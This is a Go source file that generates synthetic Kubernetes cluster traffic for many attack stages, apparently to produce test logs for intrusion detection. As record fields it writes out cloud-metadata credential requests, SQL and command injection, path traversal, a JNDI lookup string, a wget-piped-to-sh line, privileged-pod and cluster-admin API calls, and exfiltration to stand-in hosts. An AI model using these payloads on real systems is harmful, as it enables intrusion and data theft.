package cluster

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"time"
)

func base64URL(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// act is one stage while it is made.
type act struct {
	g       *Generator
	r       *rand.Rand
	stage   *Stage
	from    string // the pod that the intruder has
	agent   string
	started time.Time
}

// do plans an exchange, so long after the stage began. Client and agent are those of the stage if there are none.
func (a *act) do(after time.Duration, to string, r Record) {
	r.Time = a.started.Add(after)
	if r.Client == "" {
		r.Client = a.from
	}
	if r.Agent == "" {
		r.Agent = a.agent
	}
	if r.Method == "" {
		r.Method = "GET"
	}
	if r.Status == 0 {
		r.Status = 200
	}
	r.Stage = a.stage.Name
	if r.Time.Sub(a.g.o.Start) >= time.Duration(a.g.o.Hours)*time.Hour {
		return
	}
	if !slices.Contains(a.stage.Actors, r.Client) {
		a.stage.Actors = append(a.stage.Actors, r.Client)
	}
	a.stage.Records++
	a.g.later(r, to)
}

// every does something n times.
func (a *act) every(step time.Duration, n int, do func(i int, after time.Duration)) {
	for i := range n {
		do(i, time.Duration(i)*step+time.Duration(a.r.Int64N(int64(step)/4+1)))
	}
}

// plot is a stage: who has been taken, the software used ("" for that of the pod), and what is done.
type plot struct {
	name, pod, agent string
	do               func(a *act)
}

// plan makes all stages. They begin after 25 hours, those that last long first.
func (g *Generator) plan() {
	first := 25*60 + 10
	last := g.o.Hours*60 - 60
	all := plots()
	for i, p := range all {
		minute := first + (last-first)*i/len(all)
		s := g.service(p.pod)
		a := &act{g: g, r: rand.New(rand.NewPCG(g.o.Seed, uint64(i))), agent: p.agent, started: g.o.Start.Add(time.Duration(minute) * time.Minute)}
		if s != nil {
			a.from = s.pods[0].address
			if a.agent == "" {
				a.agent = s.agent
			}
		}
		a.stage = &Stage{Name: p.name, Start: a.started}
		p.do(a)
		g.stages = append(g.stages, *a.stage)
	}
}

const curl = "curl/8.5.0"

// once is a stage of one exchange.
func once(name, pod, agent, to string, r Record) plot {
	return plot{name, pod, agent, func(a *act) { a.do(0, to, r) }}
}

func plots() []plot {
	login := func(user string, i int) string {
		return fmt.Sprintf("username=%s&password=Winter%d%%21", user, i)
	}
	api := func(name, pod, agent, method, url, body string) plot {
		return once(name, pod, agent, "kubernetes", Record{Method: method, URL: url, Body: body, Status: 201, Port: 6443})
	}
	return []plot{
		// What takes long.
		{"slow read, a little at a time", "reviews", "", func(a *act) {
			a.every(4*time.Minute, 150, func(i int, at time.Duration) {
				a.do(at, "crm", Record{URL: "/customers?after=" + strconv.Itoa(a.r.IntN(900_000)), Received: 1_500_000, Chunked: true})
			})
		}},
		{"ids in their order, one in 20 s", "recommendations", "", func(a *act) {
			a.every(20*time.Second, 1080, func(i int, at time.Duration) {
				a.do(at, "users", Record{URL: "/users/" + strconv.Itoa(41_000+i), Received: 900})
			})
		}},
		{"slow exfiltration", "images", "", func(a *act) {
			a.every(5*time.Minute, 90, func(_ int, at time.Duration) {
				a.do(at, "drop.files.example", Record{Method: "POST", URL: "/u", Status: 201, Sent: 900_000})
			})
		}},
		{"host scan, one in four minutes", "search", "", func(a *act) {
			a.every(4*time.Minute, 60, func(i int, at time.Duration) {
				a.do(at, "", Record{Server: fmt.Sprintf("10.42.%d.%d", i%7, 20+i*3), Host: fmt.Sprintf("10.42.%d.%d", i%7, 20+i*3), URL: "/", Status: 404})
			})
		}},
		{"path scan, one in two minutes", "cart", "", func(a *act) {
			a.every(2*time.Minute, 120, func(i int, at time.Duration) {
				a.do(at, "admin", Record{URL: "/" + scanned[i%len(scanned)] + "/" + []string{"index", "list", "config", "status"}[i/len(scanned)%4], Status: 404})
			})
		}},
		{"one user guessed from many places", "", "Mozilla/5.0", func(a *act) {
			a.every(45*time.Second, 80, func(i int, at time.Duration) {
				a.do(at, "auth", Record{Client: fmt.Sprintf("10.42.%d.%d", i%3, 30+i), Method: "POST", URL: "/login", Body: login("finance.lead", i), Status: 401})
			})
		}},
		// Looking around.
		once("server-side request for credentials", "", "Mozilla/5.0", "gateway", Record{Client: "10.41.0.2", Forwarded: "192.0.2.9", URL: "/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", Answer: "node-role"}),
		once("credentials of the node by curl", "images", curl, "", Record{Server: "169.254.169.254", Host: "169.254.169.254", Port: 80, URL: "/latest/meta-data/iam/security-credentials/node-role", Answer: `{"AccessKeyId":"x"}`}),
		once("credentials of the node by the pod's software", "search", "", "", Record{Server: "169.254.169.254", Host: "169.254.169.254", Port: 80, URL: "/latest/meta-data/iam/security-credentials/node-role", Answer: `{"AccessKeyId":"x"}`}),
		{"host scan", "reviews", curl, func(a *act) {
			a.every(time.Second, 60, func(i int, at time.Duration) {
				a.do(at, "", Record{Server: fmt.Sprintf("10.42.%d.%d", i%5, 40+i), Host: fmt.Sprintf("10.42.%d.%d", i%5, 40+i), URL: "/", Status: 404})
			})
		}},
		{"path scan", "reviews", curl, func(a *act) {
			a.every(2*time.Second, 60, func(i int, at time.Duration) {
				a.do(at, "orders", Record{URL: "/" + scanned[i%len(scanned)] + "/" + strconv.Itoa(i/len(scanned)), Status: 404})
			})
		}},
		once("a service that it never called", "reviews", "", "ledger", Record{URL: "/accounts/77", Received: 800}),
		once("a service that it never called, by curl", "cart", curl, "crm", Record{URL: "/customers/9", Received: 800}),
		once("a service that it never called, with its callers' software", "search", "okhttp/4.11.0", "userdb", Record{URL: "/rows/users/5", Received: 900}),
		once("a service whose callers were deployed again", "images", "", "pricing", Record{URL: "/prices/5", Received: 300}),
		{"a service behind a harmless new one", "shipping", "", func(a *act) {
			a.do(0, "pricing", Record{URL: "/prices/9", Received: 300})
			a.do(6*time.Minute, "ledgerdb", Record{URL: "/rows/entries/9", Received: 700})
		}},
		// Logins.
		{"guessed passwords", "reviews", "python-requests/2.31", func(a *act) {
			a.every(2*time.Second, 90, func(i int, at time.Duration) {
				a.do(at, "auth", Record{Method: "POST", URL: "/login", Body: login("admin", i), Status: 401})
			})
		}},
		{"guessed passwords, refused with 200", "cart", "python-requests/2.31", func(a *act) {
			a.every(3*time.Second, 60, func(i int, at time.Duration) {
				a.do(at, "admin", Record{Method: "POST", URL: "/signin", Body: login("root", i), Type: "text/html", Answer: "<html>Sorry, that did not work.</html>"})
			})
		}},
		{"a guess that is right", "search", "Mozilla/5.0", func(a *act) {
			a.every(3*time.Second, 41, func(i int, at time.Duration) {
				r := Record{Method: "POST", URL: "/login", Body: login("ops", i), Type: "text/html", Answer: "<p>Wrong password</p>"}
				if i == 40 {
					r.Status, r.Headers, r.Answer = 302, "Location: /home\r\nSet-Cookie: sid=8f\r\n", ""
				}
				a.do(at, "jenkins", r)
			})
		}},
		{"spraying from 20 pods", "", "Go-http-client/1.1", func(a *act) {
			a.every(600*time.Millisecond, 500, func(i int, at time.Duration) {
				a.do(at, "auth", Record{Client: fmt.Sprintf("10.42.3.%d", 20+i%20), Method: "POST", URL: "/login", Body: login("user"+strconv.Itoa(i), 1), Status: 401})
			})
		}},
		{"one password for many users", "images", "", func(a *act) {
			a.every(40*time.Second, 25, func(i int, at time.Duration) {
				a.do(at, "auth", Record{Method: "POST", URL: "/login", Body: login("staff"+strconv.Itoa(i), 1), Status: 401})
			})
		}},
		// Data.
		{"bulk read", "shipping", "", func(a *act) {
			a.every(2*time.Second, 200, func(i int, at time.Duration) {
				a.do(at, "orders", Record{URL: "/orders/export?page=" + strconv.Itoa(i*7), Received: 900_000})
			})
		}},
		{"bulk read, chunked", "cart", "", func(a *act) {
			a.every(time.Second, 300, func(i int, at time.Duration) {
				a.do(at, "inventory", Record{URL: "/stock/all?x=" + strconv.Itoa(i*i), Received: 900_000, Chunked: true})
			})
		}},
		{"ids of a query in their order", "reviews", "", func(a *act) {
			a.every(3*time.Second, 300, func(i int, at time.Duration) {
				a.do(at, "catalog", Record{URL: "/invoice?number=" + strconv.Itoa(90_000+i), Received: 700})
			})
		}},
		{"many small answers", "recommendations", "", func(a *act) {
			a.every(600*time.Millisecond, 5000, func(i int, at time.Duration) {
				a.do(at, "orders", Record{URL: "/orders/" + strconv.Itoa(a.r.IntN(900_000)) + "/lines", Received: 400})
			})
		}},
		{"answers full of cards", "shipping", "", func(a *act) {
			a.every(2*time.Second, 120, func(i int, at time.Duration) {
				a.do(at, "orders", Record{URL: "/orders/" + strconv.Itoa(a.r.IntN(900_000)) + "/payment", Answer: fmt.Sprintf(`{"pan":"%s","email":"c%d@shop.example","cvv":"%03d"}`, card(a.r), i, i)})
			})
		}},
		// Out of it.
		{"exfiltration", "notifications", "", func(a *act) {
			a.every(5*time.Second, 60, func(_ int, at time.Duration) {
				a.do(at, "paste.bin.example", Record{Method: "POST", URL: "/raw", Status: 201, Sent: 1_500_000})
			})
		}},
		{"exfiltration, chunked", "search", "", func(a *act) {
			a.every(5*time.Second, 60, func(_ int, at time.Duration) {
				a.do(at, "bucket.s3.cloud.example", Record{Method: "PUT", URL: "/x/" + strconv.Itoa(a.r.IntN(1e6)), Sent: 1_500_000, Chunked: true})
			})
		}},
		{"exfiltration in queries", "cart", "", func(a *act) {
			a.every(4*time.Second, 200, func(_ int, at time.Duration) {
				a.do(at, "cdn.metrics.example", Record{URL: "/p.gif?d=" + random(a.r, 900), Received: 43})
			})
		}},
		{"exfiltration by DNS over HTTPS", "images", "", func(a *act) {
			a.every(1500*time.Millisecond, 900, func(_ int, at time.Duration) {
				a.do(at, "dns.resolver.example", Record{URL: "/dns-query?dns=" + random(a.r, 220), Received: 120, Type: "application/dns-message"})
			})
		}},
		{"a beacon", "reviews", "", func(a *act) {
			a.every(time.Minute, 60, func(_ int, at time.Duration) {
				a.do(at, "status.updates.example", Record{Method: "POST", URL: "/t", Sent: 300, Received: 20})
			})
		}},
		// Secrets.
		once("somebody else's secret", "reviews", "", "vault", Record{URL: "/v1/secret/data/payments/config", Received: 700}),
		once("all secrets of Vault", "cart", curl, "vault", Record{URL: "/v1/secret/metadata?list=true", Received: 700}),
		once("a service account's token from another pod", "shipping", "", "kubernetes", Record{URL: "/api/v1/namespaces/prod/endpoints/gateway", Auth: jwt("gateway"), Received: 1500}),
		api("secrets listed", "reviews", curl, "GET", "/api/v1/namespaces/prod/secrets", ""),
		api("a secret by Kubernetes' Python client", "search", "OpenAPI-Generator/29.0.0/python", "GET", "/api/v1/namespaces/prod/secrets/db", ""),
		api("token of a service account", "search", "kubectl/v1.29.1", "POST", "/api/v1/namespaces/kube-system/serviceaccounts/admin/token", `{"spec":{}}`),
		// The cluster.
		api("command in a pod", "search", "kubectl/v1.29.1", "POST", "/api/v1/namespaces/prod/pods/ledger-0/exec?command=sh", ""),
		api("port forwarded", "search", "kubectl/v1.29.1", "POST", "/api/v1/namespaces/prod/pods/ledgerdb-0/portforward", ""),
		api("own permissions", "images", "kubectl/v1.29.1", "POST", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", `{"spec":{"namespace":"prod"}}`),
		api("privileged pod", "images", curl, "POST", "/api/v1/namespaces/prod/pods", `{"kind":"Pod","spec":{"containers":[{"securityContext":{"privileged":true}}]}}`),
		api("the host in a daemon set", "images", "Go-http-client/1.1", "POST", "/apis/apps/v1/namespaces/prod/daemonsets", `{"spec":{"template":{"spec":{"volumes":[{"hostPath":{"path":"/"}}]}}}}`),
		api("cluster-admin", "images", "Go-http-client/1.1", "POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", `{"roleRef":{"name":"cluster-admin"}}`),
		// Other hosts.
		once("heap of a Java service", "reviews", curl, "orders", Record{URL: "/actuator/heapdump", Received: 90_000_000, Type: "application/octet-stream"}),
		once("environment of a Java service", "reviews", curl, "payments", Record{URL: "/actuator/env", Received: 9000}),
		once("container by Docker's port", "cart", curl, "", Record{Server: node(2), Host: node(2), Port: 2375, Method: "POST", URL: "/v1.41/containers/create", Body: `{"Image":"a","HostConfig":{"Privileged":true}}`, Status: 201}),
		once("all keys of etcd", "cart", curl, "", Record{Server: node(0), Host: node(0), Port: 2379, URL: "/v2/keys/?recursive=true", Received: 90_000}),
		once("command by Consul", "search", curl, "consul", Record{Method: "PUT", URL: "/v1/agent/service/register", Body: `{"Name":"x","Check":{"Args":["sh","-c","id"],"Interval":"5s"}}`}),
		once("all indices", "images", curl, "elastic", Record{URL: "/_search?size=9000", Received: 900_000}),
		once("script console", "search", "", "jenkins", Record{Method: "POST", URL: "/scriptText", Body: "script=println+%22id%22.execute().text", Answer: "uid=0(root) gid=0(root)", Type: "text/plain"}),
		once("command by the kubelet", "search", curl, "", Record{Server: node(3), Host: node(3) + ":10250", Port: 10250, Method: "POST", URL: "/run/prod/ledger-0/ledger?cmd=id", Answer: "uid=0(root) gid=0(root)"}),
		once("SQL injection", "reviews", "", "users", Record{URL: "/users/1%27%20UNION%20SELECT%20login,password%20FROM%20staff--%20-", Received: 4000}),
		once("command injection", "reviews", "", "images", Record{URL: "/meta/1?size=10;cat%20/etc/passwd", Answer: "root:x:0:0:root:/root:/bin/bash\n", Type: "text/plain"}),
		once("path traversal", "cart", "", "images", Record{URL: "/files?name=../../../../etc/passwd", Answer: "root:x:0:0:root:/root:/bin/bash\n", Type: "text/plain"}),
		once("web shell", "search", "", "crm", Record{Method: "POST", URL: "/uploads/cmd.jsp?cmd=whoami", Answer: "tomcat", Type: "text/plain"}),
		once("look-up of a name by a logger", "shipping", "", "orders", Record{URL: "/orders/1?q=$%7Bjndi:ldap://10.42.0.99:1389/a%7D"}),
		{"from host to host", "", curl, func(a *act) {
			crm, admin, reports := a.g.service("crm").pods[0].address, a.g.service("admin").pods[0].address, a.g.service("reports").pods[0].address
			hop := func(after time.Duration, from, to, path string) {
				a.do(after, "", Record{Client: from, Server: to, Host: to, URL: path, Answer: "uid=33(www-data) gid=33(www-data)", Type: "text/plain"})
			}
			hop(0, crm, admin, "/ping?host=127.0.0.1;id;cat%20/etc/passwd")
			hop(5*time.Minute, admin, reports, "/render?tpl=1;wget%20http://10.42.0.9/x.sh%20-O-%7Csh")
		}},
		{"a beacon that asks", "images", "", func(a *act) {
			a.every(time.Minute, 90, func(_ int, at time.Duration) {
				a.do(at+time.Duration(a.r.IntN(12_000))*time.Millisecond, "cdn.fonts.example", Record{URL: "/f/" + random(a.r, 6), Received: 180})
			})
		}},
		{"a few long names by DNS over HTTPS", "notifications", curl, func(a *act) {
			a.every(2*time.Second, 150, func(_ int, at time.Duration) {
				a.do(at, "dns.resolver.example", Record{URL: "/resolve?name=" + random(a.r, 58) + "." + random(a.r, 50) + ".fonts.example&type=TXT", Received: 120})
			})
		}},
	}
}

var scanned = strings.Fields("admin backup console debug dump env export files graphql health hidden internal jmx keys logs manage metrics old panel phpinfo private proxy query root secret server setup shell sql status swagger system temp test token tools trace upload users version")

// card is a number with the check digit of Luhn.
func card(r *rand.Rand) string {
	digits := []byte("45")
	for len(digits) < 15 {
		digits = append(digits, byte('0'+r.IntN(10)))
	}
	sum := 0
	for i, d := range digits {
		n := int(d - '0')
		if i%2 == 0 {
			if n *= 2; n > 9 {
				n -= 9
			}
		}
		sum += n
	}
	return string(append(digits, byte('0'+(10-sum%10)%10)))
}

const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

func random(r *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[r.IntN(len(alphabet))]
	}
	return string(b)
}
